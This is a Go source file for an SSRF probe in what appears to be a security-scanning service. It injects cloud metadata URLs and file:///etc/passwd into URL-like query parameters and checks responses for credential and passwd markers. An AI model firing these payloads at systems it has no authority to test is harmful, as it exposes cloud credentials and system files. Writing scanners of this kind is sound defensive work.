package probes

import (
	"context"
	"fmt"
	"net/url"
	"strings"

	"go.uber.org/zap"

	"github.com/ShapezModder/enterprise-security-saas/api/schemas"
	"github.com/ShapezModder/enterprise-security-saas/internal/config"
	"github.com/ShapezModder/enterprise-security-saas/internal/cvss"
)

// Parameter names that commonly carry a server-fetched URL.
var ssrfParamNames = map[string]struct{}{
	"url": {}, "uri": {}, "link": {}, "src": {}, "source": {}, "dest": {},
	"destination": {}, "redirect": {}, "redirect_uri": {}, "next": {},
	"target": {}, "callback": {}, "feed": {}, "host": {}, "proxy": {}, "path": {},
}

var ssrfPayloads = []string{
	"http://169.254.169.254/latest/meta-data/",
	"http://metadata.google.internal/computeMetadata/v1/",
	"file:///etc/passwd",
}

var ssrfMarkers = []string{"ami-id", "instance-id", "iam/security-credentials", "computemetadata", "root:x:", "root:*:"}

type ssrfProbe struct {
	client *client
	cfg    config.ProbesConfig
	log    *zap.Logger
}

func (p *ssrfProbe) ID() string { return "ssrf" }

// Probe rewrites url-carrying query parameters to internal targets. Metadata
// or passwd content in the response proves the server fetched on the
// attacker's behalf.
func (p *ssrfProbe) Probe(ctx context.Context, tgt Target) ([]schemas.Finding, error) {
	candidates := capURLs(urlsWithParams(tgt.URLs), p.cfg.MaxProbeURLs)

	var findings []schemas.Finding
	for _, rawURL := range candidates {
		parsed, err := url.Parse(rawURL)
		if err != nil {
			continue
		}

		for param := range parsed.Query() {
			if _, interesting := ssrfParamNames[strings.ToLower(param)]; !interesting {
				continue
			}

			f, err := p.probeParam(ctx, tgt, parsed, param)
			if err != nil {
				return findings, err
			}
			if f != nil {
				findings = append(findings, *f)
				break
			}
		}
	}
	return findings, nil
}

func (p *ssrfProbe) probeParam(ctx context.Context, tgt Target, parsed *url.URL, param string) (*schemas.Finding, error) {
	for _, payload := range ssrfPayloads {
		q := parsed.Query()
		q.Set(param, payload)
		injected := *parsed
		injected.RawQuery = q.Encode()

		req, err := p.client.request(ctx, tgt)
		if err != nil {
			return nil, err
		}
		resp, err := req.Get(injected.String())
		if err != nil {
			p.log.Debug("SSRF probe request failed", zap.String("url", injected.String()), zap.Error(err))
			continue
		}

		marker, hit := containsAny(string(resp.Body()), ssrfMarkers)
		if !hit {
			continue
		}
		f := newFinding(tgt, "SSRF", cvss.CategorySSRF,
			fmt.Sprintf("Server-Side Request Forgery via parameter %q", param),
			fmt.Sprintf("The %q parameter of %s makes the server fetch attacker-chosen URLs, reaching internal metadata services.", param, parsed.Path),
			fmt.Sprintf("Pointing the parameter at %s returned content containing %q.", payload, marker))
		return &f, nil
	}
	return nil, nil
}
